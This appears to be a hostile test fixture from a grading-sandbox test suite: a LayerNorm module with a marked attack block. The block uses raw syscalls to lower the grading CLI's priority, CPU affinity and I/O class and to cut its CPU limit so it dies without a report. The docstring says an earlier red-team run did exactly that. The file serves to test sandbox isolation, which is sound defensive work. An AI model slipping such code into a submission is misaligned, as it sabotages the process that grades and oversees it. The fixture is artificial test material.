"""Hostile: Sets the grading CLI's RLIMIT_CPU to 0 s soft, 1 s hard with prlimit64 (red-team 02c:
the CLI was killed by SIGXCPU with no report). The attacker is told the CLI's pid, and also tries
its priority, CPU affinity and I/O class, which the red team changed on another root process.
Its benign twin is this file without the attack blocks (tests/test_hostile.py)."""
import torch
import torch.nn as nn

# >>> attack
import ctypes
import os

CLI_PID = 4747474  # replaced by the test with the pid of the process that runs the sandbox


class _Limit(ctypes.Structure):
    _fields_ = [("cur", ctypes.c_uint64), ("max", ctypes.c_uint64)]


_libc = ctypes.CDLL(None, use_errno=True)
_results = {
    "setpriority": _libc.setpriority(0, CLI_PID, 19),
    "sched_setaffinity": _libc.syscall(203, CLI_PID, 8, ctypes.byref(ctypes.c_uint64(1))),
    "ioprio_set": _libc.syscall(251, 1, CLI_PID, 3 << 13),  # IOPRIO_WHO_PROCESS, class idle
    "prlimit64": _libc.syscall(302, CLI_PID, 0, ctypes.byref(_Limit(0, 1)), None),  # RLIMIT_CPU
}
if not any(result == 0 for result in _results.values()):
    raise PermissionError(f"every call on the CLI was refused: {_results}")
# <<< attack


class LayerNorm(nn.Module):
    def __init__(self, normalized_shape, eps=1e-5):
        super().__init__()
        if isinstance(normalized_shape, int):
            normalized_shape = (normalized_shape,)
        self.normalized_shape = tuple(normalized_shape)
        self.eps = eps
        self.weight = nn.Parameter(torch.ones(self.normalized_shape))
        self.bias = nn.Parameter(torch.zeros(self.normalized_shape))

    def forward(self, x):
        dims = tuple(range(-len(self.normalized_shape), 0))
        mean = x.mean(dim=dims, keepdim=True)
        var = ((x - mean) ** 2).mean(dim=dims, keepdim=True)
        out = (x - mean) / torch.sqrt(var + self.eps) * self.weight + self.bias
        return out
